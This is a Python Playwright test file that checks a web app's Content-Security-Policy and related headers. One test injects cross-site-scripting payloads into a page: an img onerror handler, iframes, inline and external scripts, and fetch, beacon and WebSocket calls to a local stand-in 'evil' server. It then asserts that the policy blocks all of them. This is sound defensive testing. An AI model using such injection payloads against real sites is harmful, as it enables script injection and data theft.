"""The headers a server sends hold the browser to that server, and every page draws under them."""

import http.server
import threading
import urllib.request
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.browser import pages
from tests.browser.conftest import settle
from tests.browser.server import running_app

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""


def headers(address: str) -> dict[str, str]:
    with urllib.request.urlopen(address, timeout=20) as answer:
        return dict(answer.headers)


@pytest.mark.parametrize("path", ["", "/board", "/_stcore/health", "/_stcore/host-config", "/static/js/none.js"])
def test_every_answer_carries_them(app, path):
    sent = headers(f"{app}{path}")
    assert sent["x-content-type-options"] == "nosniff"
    assert sent["referrer-policy"] == "same-origin"
    policy = dict(part.split(" ", 1) for part in sent["content-security-policy"].split("; "))
    assert policy["connect-src"] == policy["default-src"] == policy["frame-ancestors"] == "'self'"
    assert policy["frame-src"] == policy["object-src"] == "'none'"
    assert not {"'unsafe-inline'", "'unsafe-eval'"} & set(policy["script-src"].split())


@pytest.mark.parametrize("name", pages.PAGES)
def test_a_page_draws_and_breaks_none_of_them(page: Page, app, name):
    page.add_init_script(WATCH)
    page.goto(pages.address(app, name))
    expect(page.get_by_role("heading", level=1)).to_be_visible(timeout=60_000)
    settle(page)
    if name not in ("models", "saved", "claim", "corpus", "glossary", "hand_ins", "lesson", "start"):
        page.locator("canvas:visible, .js-plotly-plot svg:visible").first.wait_for(timeout=60_000)
    page.wait_for_timeout(500)  # what is drawn last
    assert page.evaluate("window.violations") == []


@pytest.fixture
def other_server() -> Iterator[tuple[str, list[str]]]:
    """Give another server's address, and what it was asked; it answers with a frame of what is asked of it."""
    asked: list[str] = []

    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(f"<iframe src={self.path[1:]}></iframe>".encode())

        do_POST = do_GET

        def log_message(self, *_given: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Answer) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def test_a_script_that_got_in_could_neither_run_nor_ask_another_server(page, app, other_server):
    evil, asked = other_server
    page.add_init_script(WATCH)
    page.goto(app)
    settle(page)
    page.evaluate(
        """(evil) => {
          const inside = document.createElement("div");
          inside.innerHTML = `<img src=${evil}/a onerror=window.__pwned=1><iframe src=${evil}/b></iframe>
            <link rel=stylesheet href=${evil}/c><video src=${evil}/d></video><object data=${evil}/e></object>`;
          document.body.append(inside);
          for (const source of ["", `${evil}/f`]) {
            const script = document.createElement("script");
            if (source) script.src = source; else script.textContent = "window.__pwned=2";
            document.body.append(script);
          }
          fetch(`${evil}/g`).catch(() => {});
          navigator.sendBeacon(`${evil}/h`, "x");
          try { new WebSocket(`${evil.replace("http", "ws")}/i`); } catch {}
          setTimeout(() => {  // later: what a test runs itself is let through
            try { new Function("window.__pwned=3")(); } catch {}
          });
        }""",
        evil,
    )
    page.wait_for_timeout(1_000)
    assert page.evaluate("window.__pwned") is None
    assert asked == []
    stopped = set(page.evaluate("window.violations.map((said) => said.split(' ')[0])"))
    assert stopped >= {"script-src-attr", "script-src-elem", "script-src", "style-src-elem", "connect-src"}
    assert stopped >= {"img-src", "frame-src", "object-src", "media-src"}


@pytest.mark.parametrize("framed_by, is_shown", [("", False), ("http://127.0.0.1:*", True)])
def test_another_servers_page_shows_it_in_a_frame_only_where_that_is_set(
    page, other_server, tmp_path, framed_by, is_shown
):
    with running_app(tmp_path / "log.txt", HEADLIGHT_FRAMED_BY=framed_by) as address:
        page.goto(f"{other_server[0]}/{address}/_stcore/health")
        page.wait_for_timeout(1_000)
        (inside,) = page.main_frame.child_frames
        assert (inside.url == f"{address}/_stcore/health") == is_shown
